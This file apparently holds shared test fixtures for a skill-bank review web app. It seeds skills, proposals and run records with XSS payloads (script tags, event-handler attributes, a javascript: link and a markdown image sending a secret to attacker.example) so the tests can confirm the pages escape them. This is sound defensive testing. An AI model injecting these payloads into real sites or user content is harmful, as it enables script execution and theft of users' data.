"""Shared by the serve tests: the XSS payloads and a bank holding them."""

from __future__ import annotations

import re

from skillbank.models import SkillStatus

TOKEN = "test-token-0123456789"
PAYLOADS = [
    "<script>alert('xss-script')</script>",
    "<img src=x onerror=alert('xss-img')>",
    "[click](javascript:alert('xss-link'))",
    "![exfil](https://attacker.example/steal?d=secret)",
    "\"><svg onload=alert('xss-svg')>",
]
BODY = "Check the order id before refunding.\n" + "\n".join(PAYLOADS)
# Skill names are validated (lower-case, digits, hyphens), so a name cannot carry markup; the
# name a pending proposal records, its reason and its source are free text and do.
EVIL_NAME = "refund<script>alert('xss-name')</script>"
EVIL_TAG = "<b onmouseover=alert('xss-tag')>tag</b>"


def fill(bank):
    """A plain skill with two versions, a skill whose name/tags/body carry payloads, a candidate
    and a draft edit of the plain skill; returns their ids."""
    plain = bank.add_skill("lookup-order", "Look an order up first.", "Call get_order with the id.",
                           tags=["orders"], tools=["get_order"])
    bank.update_skill(plain.id, reason="clearer", body="Call get_order with the order id.")
    evil = bank.add_skill("refund-order", "Refunds <i>now</i>", BODY, tags=[EVIL_TAG], allow_unsafe=True)
    cand = bank.add_skill("cancel-order", "Cancel an order.", "Call cancel_order once.",
                          status=SkillStatus.candidate, author="evolution:rule")
    bank.drafts.save_pending(cand.id, {"kind": "add", "evidence": ["tr_0123456789abcdef"], "task_ids": ["t1"],
                                       "reason": "seen in 3 runs <script>x</script>", "author": "evolution:rule",
                                       "round": 1, "name": "cancel-order"})
    odd = bank.add_skill("odd-proposal", "Odd.", BODY, status=SkillStatus.candidate, allow_unsafe=True)
    bank.drafts.save_pending(odd.id, {"kind": "add", "evidence": [], "task_ids": [], "reason": PAYLOADS[1],
                                      "author": PAYLOADS[4], "round": 2, "name": EVIL_NAME})
    return {"plain": plain.id, "evil": evil.id, "cand": cand.id, "odd": odd.id}


def add_run(bank, skill_id: str, *, success: bool = False, payload: str = PAYLOADS[0]):
    """A finished run with a model turn, a tool call whose result carries ``payload``, a limit
    event and ``skill_id`` injected at the first turn."""
    from datetime import datetime, timezone

    from skillbank.models import Injection, LimitEvent, LimitType, Outcome, Step, Trajectory

    now = datetime.now(timezone.utc)
    run = Trajectory(task=f"refund order 7 {payload}", status="complete", final_answer=payload)
    run.steps = [Step(index=0, kind="model", started_at=now, content=f"I will look. {payload}",
                      tool_calls=[{"name": "get_order", "args": {"id": payload}, "id": "c1"}]),
                 Step(index=1, kind="tool", started_at=now, tool="get_order", args={"id": "7"},
                      result=f"order 7: {payload}")]
    run.injections = [Injection(step=0, skill_id=skill_id, version=1, rank=0, score=0.8)]
    run.limit_events = [LimitEvent(type=LimitType.missing_tool, step=1, detail=f"no refund tool {payload}")]
    run.outcome = Outcome(success=success, note=payload)
    bank.trajectories.save(run)
    return run.id


def csrf_and_version(html: str, action: str) -> dict[str, str]:
    """The hidden fields of the form posting to ``action`` on a page."""
    form = html[html.index(f'action="{action}"'):]
    form = form[:form.index("</form>")]
    return dict(re.findall(r'name="(csrf|drawn_version|to_version|pinned)" value="([^"]*)"', form))


CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]


class LiveServer:
    """The app under uvicorn on a free loopback port, in a thread (a real HTTP server, so the
    browser meets the same headers and cookies a person's would)."""

    def __init__(self, bank, *, read_only: bool = False) -> None:
        import socket
        import threading

        import uvicorn

        from skillbank._web import create_app

        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        config = uvicorn.Config(create_app(bank, token=TOKEN, read_only=read_only), host="127.0.0.1",
                                port=self.port, log_level="warning", lifespan="off")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def __enter__(self) -> "LiveServer":
        import time

        self.thread.start()
        deadline = time.monotonic() + 30
        while not self.server.started:
            if time.monotonic() > deadline or not self.thread.is_alive():
                raise RuntimeError("the test server did not start")
            time.sleep(0.05)
        return self

    def __exit__(self, *exc) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=10)


def fill_live(bank):
    """Live evidence: a canary the monitor rejected (harmful, retired), a canary still running
    (helpful so far) and an active skill never randomized; returns their ids."""
    import random

    from skillbank.live._canary import start_canary
    from skillbank.live._exposure import Arm, Exposure
    from skillbank.models import Outcome, Trajectory

    def runs(skill, n, p_shown, p_held, seed):
        rng = random.Random(seed)
        for i in range(n):
            arm = Arm.shown if rng.random() < 0.5 else Arm.held
            ok = rng.random() < (p_shown if arm == Arm.shown else p_held)
            run = Trajectory(task=f"refund order {i}", task_type="refund" if i % 2 else "return",
                             status="complete", outcome=Outcome(success=ok))
            bank.trajectories.save(run)
            bank.exposures.record(run.id, [Exposure(skill.id, skill.version, arm, 0.5)])

    hurt = start_canary(bank.skills, bank.add_skill("refund-without-checking", "Refund at once.", "Refund.").id)
    runs(hurt, 300, 0.3, 0.9, 1)
    running = start_canary(bank.skills, bank.add_skill("refund-after-checking", "Check, then refund.",
                                                       "Check the policy first.").id)
    runs(running, 40, 0.9, 0.4, 2)
    bank.monitor(apply=True)
    plain = bank.add_skill("cancel-politely", "Cancel an order politely.", "Say sorry.")
    return {"hurt": hurt.id, "running": running.id, "plain": plain.id}


def client(bank, *, read_only=False, login=True):
    """A TestClient on the review app over ``bank``, logged in with :data:`TOKEN` unless ``login``
    is false (the web extra must be installed: the caller checks)."""
    from starlette.testclient import TestClient

    from skillbank._web import create_app

    c = TestClient(create_app(bank, token=TOKEN, read_only=read_only), base_url="http://127.0.0.1",
                   follow_redirects=False)
    if login:
        r = c.get(f"/skills?token={TOKEN}", follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"] == "/skills"
        cookie = r.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=strict" in cookie
    return c
